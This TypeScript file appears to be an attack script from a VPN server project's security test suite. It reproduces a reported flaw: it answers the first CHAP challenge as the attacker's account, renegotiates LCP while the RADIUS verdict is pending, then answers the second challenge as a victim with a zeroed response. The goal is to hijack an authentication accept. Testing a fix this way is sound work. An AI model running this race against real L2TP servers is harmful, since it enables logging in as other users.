/**
 * Attack script (runs in the attacker namespace), issue 12 finding 4: one
 * L2TP call; Challenge 1 answered correctly as `user1` (the attacker's own
 * account), then at once an LCP Configure-Request (renegotiation) while the
 * server's RADIUS backend still decides; Challenge 2 answered as `victim`
 * with a Response of zeros. On a server that matched verdicts by a
 * restarting request id, user1's Accept lands on the victim's exchange.
 * Prints `OUTCOME <success|failure|none> challenges=N`.
 */
import { clientRuntime } from '../../../../src/client/common.js';
import { silentLogger } from '../../../../src/log/logger.js';
import { L2tpPort } from '../../../../src/server/l2tp-endpoint.js';
import type { PppLink } from '../../../../src/server/link.js';
import { ScriptedPppPeer, chapMd5Response } from '../../ppp-peer.js';

const [server = '10.201.0.1', user1 = 'mallory', password1 = 'mallory-pw', victim = 'alice', waitArg = '5000'] = process.argv.slice(2);

const rt = clientRuntime({ log: silentLogger });
let scripted: ScriptedPppPeer | undefined;
let finish!: () => void;
const done = new Promise<void>((r) => (finish = r));

const port = new L2tpPort(
  rt.ctx,
  { tunnel: { role: 'lac', hostName: 'attacker', vendorName: 'attacker' }, maxTunnels: 1 },
  {
    onTunnelEvent(p, id, peer, e, now) {
      if (e.type === 'tunnel-up') p.command(id, { type: 'open-session' }, now);
      else if (e.type === 'session-up') {
        const transport = p.openSession(id, peer, e);
        const s = new ScriptedPppPeer(
          (f) => transport.sendFrame(f, rt.ctx.clock.now()),
          (c, n) => {
            if (n === 1) {
              // Renegotiate LCP right behind the Response, while the verdict is pending.
              setImmediate(() => s.configureRequest());
              return { value: chapMd5Response(c.identifier, password1, c.value), name: user1 };
            }
            return { value: new Uint8Array(16), name: victim };
          },
        );
        scripted = s;
        transport.link = {
          fromTransport: (f: Uint8Array) => {
            s.receive(f);
            if (s.outcomes.length > 0) finish();
          },
          lowerDown: () => finish(),
          close: () => {},
          onPathMtu: () => {},
        } as unknown as PppLink;
        s.configureRequest();
      } else if (e.type === 'session-down' || e.type === 'tunnel-down') finish();
    },
  },
  silentLogger,
  false,
);
await port.bind('0.0.0.0', 0);
const tunnel = port.connect({ address: server, port: 1701 });
if (tunnel === undefined) throw new Error('no tunnel');
const t = setTimeout(() => finish(), Number(waitArg));
await done;
clearTimeout(t);
console.log(`OUTCOME ${scripted?.outcomes[0] ?? 'none'} challenges=${scripted?.challenges.length ?? 0}`);
port.command(tunnel, { type: 'close', reason: 'attack over' }, rt.ctx.clock.now());
await new Promise((r) => setTimeout(r, 300));
rt.scheduler.stop();
port.close();
process.exit(0);
